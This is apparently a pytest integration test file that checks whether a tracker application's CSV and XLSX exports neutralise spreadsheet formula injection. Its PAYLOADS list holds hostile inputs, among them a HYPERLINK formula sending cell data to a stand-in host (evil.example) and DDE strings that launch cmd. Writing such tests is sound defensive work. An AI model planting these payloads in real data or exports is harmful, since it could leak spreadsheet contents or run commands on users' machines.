"""Every CSV and XLSX export keeps user text that starts like a formula inert (OWASP CSV injection).

Each export is downloaded through its endpoint with one record per dangerous first character; the CSV
is read back with the csv module and the XLSX with openpyxl: the text carries a leading quote, every
text cell is a string cell (never a formula), and numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.integration.consultations.helpers import draft, make_roll, open_consultation, paper_vote
from tests.integration.inspections.helpers import API, file_issue
from tracker.accounts.actor import SYSTEM
from tracker.register import services as register
from tracker.register.schemas import BuildingIn, DwellingIn, HouseholdIn

pytestmark = pytest.mark.asyncio

# One per character a spreadsheet starts a formula or a DDE call with: = + - @ tab and carriage return.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response, sheet: str | None = None) -> list:
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def assert_csv_inert(rows: list[list[str]], stored: list[str] = PAYLOADS) -> None:
    texts = [v for row in rows for v in row]
    for payload in stored:
        assert any(v.startswith("'" + payload) for v in texts), payload
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in texts)


def assert_xlsx_inert(cells: list, stored: list[str] = PAYLOADS) -> None:
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (cell.coordinate, cell.value)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in stored:
        # XML reads a bare carriage return back as a line feed; the quote in front is what matters.
        assert any(t.startswith("'" + payload.replace("\r", "\n")) for t in texts), payload


async def test_ledger_exports(world, client_for):
    inspector = await client_for("inspector")
    for payload in PAYLOADS:
        await file_issue(inspector, world, description=payload, part=payload)
    # An issue's description is stored stripped, so tab and CR arrive as the "=" behind them.
    stored = [p.strip() for p in PAYLOADS]
    rows = csv_rows(await inspector.get(f"{API}/projects/{world.project}/ledger.csv"))
    assert len(rows) == 1 + len(PAYLOADS)
    assert_csv_inert(rows, stored)
    assert all(r[0].isdigit() for r in rows[1:])  # the issue number is written as a number, unquoted
    cells = xlsx_cells(await inspector.get(f"{API}/projects/{world.project}/ledger.xlsx"), "整改台账")
    assert_xlsx_inert(cells, stored)
    assert {c.data_type for c in cells if c.column == 1 and c.row > 1} == {"n"}


async def test_consultation_results_exports(world, client_for):
    manager = await client_for("manager")
    staff = await client_for("staff")
    roll = [{"cert": f"X{i}", "area": "40.5", "owner": f"o{i}", "office": p, "subdistrict": p}
            for i, p in enumerate(PAYLOADS)]
    _, building_id = await make_roll(world.project, roll)
    body = draft("roll_share", kind="intent", rule_params={"p": "9/10"}, scope="building", building_id=building_id)
    body["items"][0]["description"] = PAYLOADS[0]
    c = await open_consultation(manager, world.project, body)
    await paper_vote(staff, manager, c["id"], "X0", {str(c["items"][0]["id"]): "agree"})

    rows = csv_rows(await manager.get(f"/api/v1/consultations/{c['id']}/results.csv"))
    assert_csv_inert(rows)
    header = rows[0]
    total = next(r for r in rows if r[2] == "合计")
    assert total[header.index("权证数")] == "6" and total[header.index("总面积(㎡)")] == "243.00"

    cells = xlsx_cells(await manager.get(f"/api/v1/consultations/{c['id']}/results.xlsx"))
    assert_xlsx_inert(cells)
    by_column = {c.column: c for c in cells if c.row == 1}
    last = max(c.row for c in cells)
    totals = {by_column[c.column].value: c for c in cells if c.row == last}
    # Counts and areas are numbers in the workbook; rates are text.
    assert totals["权证数"].value == 6 and totals["权证数"].data_type == "n"
    assert totals["总面积(㎡)"].value == Decimal("243.00") or totals["总面积(㎡)"].value == 243
    assert totals["总面积(㎡)"].data_type == "n"
    assert totals["同意率(全部权证)"].value == "16.67%"


async def test_roll_exports_and_a_negative_floor_stays_a_number(world, client_for):
    inspector = await client_for("inspector")
    building = await register.add_building(SYSTEM, world.project, BuildingIn(name="地下室"))
    for i, payload in enumerate(PAYLOADS):
        dwelling = await register.add_dwelling(
            SYSTEM, building.id, DwellingIn(number=f"B{i}", floor=-2, registered_area=Decimal("12.5"))
        )
        await register.create_household(
            SYSTEM, world.project,
            HouseholdIn(certificate_no=f"F-{i}", holder_names=payload, owner_id=f"owner-{i}", office=payload,
                        dwelling_ids=[dwelling.id]),
        )
    rows = csv_rows(await inspector.get(f"/api/v1/projects/{world.project}/households/export.csv"))
    assert_csv_inert(rows)
    floor = rows[0].index("楼层")
    mine = [r for r in rows if r[0].startswith("F-")]
    assert len(mine) == len(PAYLOADS) and {r[floor] for r in mine} == {"-2"}

    cells = xlsx_cells(await inspector.get(f"/api/v1/projects/{world.project}/households/export.xlsx"))
    assert_xlsx_inert(cells)
    floor_column = next(c.column for c in cells if c.row == 1 and c.value == "楼层")
    certificates = {c.row for c in cells if c.column == 1 and str(c.value).startswith("F-")}
    floors = [c for c in cells if c.column == floor_column and c.row in certificates]
    assert [(c.value, c.data_type) for c in floors] == [(-2, "n")] * len(PAYLOADS)
